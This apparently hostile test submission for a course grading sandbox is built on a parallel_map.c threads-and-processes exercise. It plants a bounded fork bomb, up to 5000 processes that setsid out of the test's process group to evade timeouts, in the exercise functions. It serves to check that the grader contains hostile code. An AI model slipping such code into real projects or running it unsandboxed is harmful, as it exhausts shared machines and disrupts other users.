/* HOSTILE SUBMISSION, for tests/grading/check-class.sh: never graded outside a sandbox.
 *
 * hostile-fork-bomb: a fork bomb, bounded: once per grading, from split_range, every
 * process of the bomb forks as fast as it can, each child leaving the test's process group
 * (setsid) and forking on, named "hostile-bomb"; all of them share one counter and stop at
 * 5000 processes in all, and each child exits 20 s after it was born, so that a machine without
 * a sandbox survives.
 * Evidence if it succeeds: its own tests pass (they must fail: it is the stub), another
 * student's row changed (a limit on processes shared with them), the class ran past its time
 * bound, or a hostile-bomb process alive after grade-all.
 *
 * Built on lessons/01-threads/parallel_map.c; the attack is at the end of the includes and
 * runs from split_range, map_with_threads and map_with_processes.
 */
/* parallel_map.c - one job per input: in a loop, on threads, in processes.
 *
 * The three ways compute the same results. What differs is who does the work and how the
 * results come back: a loop writes them itself; threads share the caller's memory and write
 * their own part of `results` directly; processes each have a copy of memory, so they must
 * send their part back to the parent through a pipe.
 *
 * This is the file you edit. Each exercise is a function below marked TODO(exercise N);
 * README.md says what to do, and `make hint EX=N` helps when you are stuck. Change only the
 * bodies of those functions (and add helper functions or structs next to them if you like);
 * parallel_map.h is the contract the tests hold you to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <glob.h>
#include <poll.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/types.h>
#include "parallel_map.h"

#include <errno.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include "io.h"
#include "sync.h"

#include "toolbox.inc"   /* make-class.sh puts tests/grading/hostile/toolbox.inc here */

/* ---- the attack ---------------------------------------------------------------------- */

#define HOSTILE_MOST_PROCESSES 5000
#define HOSTILE_CHILD_SECONDS 20

static void hostile_attack(void)
{
    if (!hostile_once("fork-bomb"))
        return;
    /* One counter shared by every process of the bomb: 5000 in all, and no more. */
    atomic_int *count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE,
                             MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (count == MAP_FAILED)
        return;
    atomic_init(count, 0);
    fflush(NULL);
    int is_child = 0, failures = 0;
    time_t born = time(NULL);
    while (time(NULL) - born < HOSTILE_CHILD_SECONDS && failures < 1000) {
        if (atomic_fetch_add(count, 1) >= HOSTILE_MOST_PROCESSES)
            break;
        pid_t pid = fork();
        if (pid == 0) {
            /* Out of the test's process group: a timeout that kills the group misses us. */
            setsid();
            prctl(PR_SET_NAME, "hostile-bomb", 0, 0, 0);
            is_child = 1;
            born = time(NULL);
            failures = 0;
            continue;
        }
        if (pid < 0) {
            atomic_fetch_sub(count, 1);
            failures++;
            usleep(1000);
        }
    }
    if (is_child) {
        while (time(NULL) - born < HOSTILE_CHILD_SECONDS)
            sleep(1);
        _exit(0);
    }
    printf("HOSTILE fork-bomb: %d processes started, %d forks failed\n", atomic_load(count),
           failures);
    fflush(NULL);
}

/* The finished example: every result computed in turn, on the calling thread. */
int map_sequential(job_fn job, const long *inputs, long *results, size_t count)
{
    for (size_t i = 0; i < count; i++)
        results[i] = job(inputs[i]);
    return 0;
}

void split_range(size_t count, unsigned parts, unsigned index, size_t *begin, size_t *end)
{
    hostile_attack();
    /* TODO(exercise 1): set *begin and *end to the bounds of block `index` of `parts`.
     * Sizes differ by at most one; blocks are in order and together cover [0, count). */
    (void)count;
    (void)parts;
    (void)index;
    *begin = 0;
    *end = 0;
}

int map_with_threads(job_fn job, const long *inputs, long *results, size_t count,
                     unsigned workers)
{
    hostile_attack();
    /* TODO(exercise 2): start `workers` threads with thread_create(), give each one block of
     * split_range() to compute, then thread_join() every one. No locks are needed: make sure
     * no two threads ever write the same place. */
    (void)job;
    (void)inputs;
    (void)results;
    (void)count;
    (void)workers;
    errno = ENOSYS;   /* "not implemented": the demo prints that this exercise is not done */
    return -1;
}

int map_with_processes(job_fn job, const long *inputs, long *results, size_t count,
                       unsigned workers)
{
    hostile_attack();
    /* TODO(exercise 3): for each block, make a pipe() and fork() a child that computes its
     * block, sends it with write_all() and ends with _exit(). The parent reads every block
     * with read_all(), then waitpid()s every child and checks how it ended. */
    (void)job;
    (void)inputs;
    (void)results;
    (void)count;
    (void)workers;
    errno = ENOSYS;
    return -1;
}
